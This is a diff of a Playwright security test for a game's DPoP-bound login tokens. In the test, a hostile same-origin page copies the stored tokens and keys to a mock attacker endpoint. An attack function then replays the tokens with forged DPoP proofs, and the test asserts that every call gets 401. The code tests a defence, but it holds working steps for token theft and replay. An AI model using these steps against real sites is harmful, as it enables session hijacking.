@@ -5,7 +5,6 @@
 // read, and the key in any form it can export) and sends it to its own server, which then calls
 // the site's API and renew with all of it: every call is 401, and the key's private half is not
 // extractable.
-import { createServer, type Server } from 'node:http';
 import { createHash, randomBytes } from 'node:crypto';
 import { expect, test } from '@playwright/test';
 import { importJWK, SignJWT, type JWK } from 'jose';
@@ -53,77 +52,62 @@ document.title = 'sent';
 </script>`;
 
 /**
- * The attacker's server: it receives the loot and, with every JWS-shaped string in it, calls the
- * site's API (GET and PUT) and renew: as Bearer, as DPoP without a proof, with a proof by its own
- * key, and with a proof by any private key it was sent. The statuses of all those calls.
+ * The attacker's server: with every JWS-shaped string of the loot it received, it calls the site's
+ * API (GET and PUT) and renew: as Bearer, as DPoP without a proof, with a proof by its own key,
+ * and with a proof by any private key it was sent. The statuses of all those calls.
  */
-async function attackerServer(site: string, origin: string) {
-  let settle: (value: { loot: Loot; calls: { what: string; status: number }[] }) => void;
-  const done = new Promise<{ loot: Loot; calls: { what: string; status: number }[] }>((resolve) => (settle = resolve));
-  const server: Server = createServer((request, response) => {
-    response.setHeader('Access-Control-Allow-Origin', '*');
-    let body = '';
-    request.on('data', (chunk: Buffer) => (body += chunk));
-    request.on('end', async () => {
-      response.end();
-      if (request.method !== 'POST') return;
-      const loot = JSON.parse(body) as Loot;
-      const everything = JSON.stringify(loot);
-      const tokens = [...new Set(everything.match(/[\w-]{10,}\.[\w-]{10,}\.[\w-]{10,}/g) ?? [])];
-      const signers: { name: string; jwk: JWK; key: CryptoKey | Uint8Array }[] = [];
-      const own = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign', 'verify']);
-      signers.push({ name: 'its own key', jwk: (await crypto.subtle.exportKey('jwk', own.publicKey)) as JWK, key: own.privateKey });
-      for (const stolen of loot.keys) {
-        if (stolen.type !== 'private' || stolen.jwk === undefined) continue;
-        const { d: _d, key_ops: _ops, ext: _ext, ...publicJwk } = stolen.jwk;
-        signers.push({ name: 'the stolen key', jwk: publicJwk as JWK, key: (await importJWK(stolen.jwk as JWK, 'ES256')) as CryptoKey });
+async function attack(loot: Loot, site: string, origin: string): Promise<{ what: string; status: number }[]> {
+  const everything = JSON.stringify(loot);
+  const tokens = [...new Set(everything.match(/[\w-]{10,}\.[\w-]{10,}\.[\w-]{10,}/g) ?? [])];
+  const signers: { name: string; jwk: JWK; key: CryptoKey }[] = [];
+  const own = (await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign', 'verify'])) as CryptoKeyPair;
+  signers.push({ name: 'its own key', jwk: (await crypto.subtle.exportKey('jwk', own.publicKey)) as JWK, key: own.privateKey });
+  for (const stolen of loot.keys) {
+    if (stolen.type !== 'private' || stolen.jwk === undefined) continue;
+    const { d: _d, key_ops: _ops, ext: _ext, ...publicJwk } = stolen.jwk;
+    signers.push({ name: 'the stolen key', jwk: publicJwk as JWK, key: (await importJWK(stolen.jwk as JWK, 'ES256')) as CryptoKey });
+  }
+  const proof = (signer: (typeof signers)[number], method: string, url: string, token: string) =>
+    new SignJWT({
+      htm: method,
+      htu: url,
+      iat: Math.floor(Date.now() / 1000),
+      jti: randomBytes(16).toString('base64url'),
+      ath: createHash('sha256').update(token).digest('base64url'),
+    })
+      .setProtectedHeader({ typ: 'dpop+jwt', alg: 'ES256', jwk: signer.jwk })
+      .sign(signer.key);
+  const calls: { what: string; status: number }[] = [];
+  for (const token of tokens) {
+    for (const [method, path] of [
+      ['GET', '/api/game/progress'],
+      ['PUT', '/api/game/progress'],
+      ['POST', '/api/game/renew'],
+    ] as const) {
+      const url = `${site}${path}`;
+      const ways: [string, Record<string, string>][] = [
+        ['Bearer', { Authorization: `Bearer ${token}` }],
+        ['DPoP without a proof', { Authorization: `DPoP ${token}` }],
+      ];
+      for (const signer of signers)
+        ways.push([`DPoP, proof by ${signer.name}`, { Authorization: `DPoP ${token}`, DPoP: await proof(signer, method, url, token) }]);
+      for (const [way, headers] of ways) {
+        const answer = await fetch(url, {
+          method,
+          headers: { Origin: origin, 'Content-Type': 'application/json', ...headers },
+          body: method === 'PUT' ? JSON.stringify({ progress: { stars: 0 } }) : null,
+        });
+        calls.push({ what: `${method} ${path} ${way}`, status: answer.status });
       }
-      const proof = (signer: (typeof signers)[number], method: string, url: string, token: string) =>
-        new SignJWT({
-          htm: method,
-          htu: url,
-          iat: Math.floor(Date.now() / 1000),
-          jti: randomBytes(16).toString('base64url'),
-          ath: createHash('sha256').update(token).digest('base64url'),
-        })
-          .setProtectedHeader({ typ: 'dpop+jwt', alg: 'ES256', jwk: signer.jwk })
-          .sign(signer.key);
-      const calls: { what: string; status: number }[] = [];
-      for (const token of tokens) {
-        for (const [method, path] of [
-          ['GET', '/api/game/progress'],
-          ['PUT', '/api/game/progress'],
-          ['POST', '/api/game/renew'],
-        ] as const) {
-          const url = `${site}${path}`;
-          const ways: [string, Record<string, string>][] = [
-            ['Bearer', { Authorization: `Bearer ${token}` }],
-            ['DPoP without a proof', { Authorization: `DPoP ${token}` }],
-          ];
-          for (const signer of signers)
-            ways.push([`DPoP, proof by ${signer.name}`, { Authorization: `DPoP ${token}`, DPoP: await proof(signer, method, url, token) }]);
-          for (const [way, headers] of ways) {
-            const answer = await fetch(url, {
-              method,
-              headers: { Origin: origin, 'Content-Type': 'application/json', ...headers },
-              body: method === 'PUT' ? JSON.stringify({ progress: { stars: 0 } }) : null,
-            });
-            calls.push({ what: `${method} ${path} ${way}`, status: answer.status });
-          }
-        }
-      }
-      settle({ loot, calls });
-    });
-  });
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}/loot`, done, close: () => server.close() };
+    }
+  }
+  return calls;
 }
 
 test('a hostile page on the game origin copies all the game stored; its server gets 401 from every API call and renew with it', async ({
   page,
   context,
 }) => {
-  const attacker = await attackerServer(demo.url, demo.gameUrl);
   // The game, on its origin, logs in and saves.
   await page.goto(`${demo.gameUrl}/`);
   await expect(page.locator('.game')).toHaveAttribute('data-ready', 'true');
@@ -138,10 +122,19 @@ test('a hostile page on the game origin copies all the game stored; its server g
   await expect(page.getByRole('status')).toHaveText('Saved: 1 stars.');
 
   // Another game on the same origin, later in the same tab.
-  await page.route(`${demo.gameUrl}/another-game/`, (route) => route.fulfill({ contentType: 'text/html', body: HOSTILE(attacker.url) }));
+  // (Its server's address is on the game's origin here: Chromium's Local Network Access keeps a
+  // page that page.route serves from reaching loopback. What arrives there goes to the attacker.)
+  let sent: (loot: Loot) => void;
+  const received = new Promise<Loot>((resolve) => (sent = resolve));
+  await page.route(`${demo.gameUrl}/another-game/**`, async (route) => {
+    if (route.request().method() !== 'POST')
+      return route.fulfill({ contentType: 'text/html', body: HOSTILE(`${demo.gameUrl}/another-game/loot`) });
+    sent(JSON.parse(route.request().postData()!) as Loot);
+    return route.fulfill({ status: 204 });
+  });
   await page.goto(`${demo.gameUrl}/another-game/`);
-  const { loot, calls } = await attacker.done;
-  attacker.close();
+  const loot = await received;
+  const calls = await attack(loot, demo.url, demo.gameUrl);
 
   // It did take the game's token (the attack is real), and the key, but not its private half.
   expect(Object.keys(loot.sessionStorage).some((name) => name.startsWith('itch-oauth-game-token'))).toBe(true);
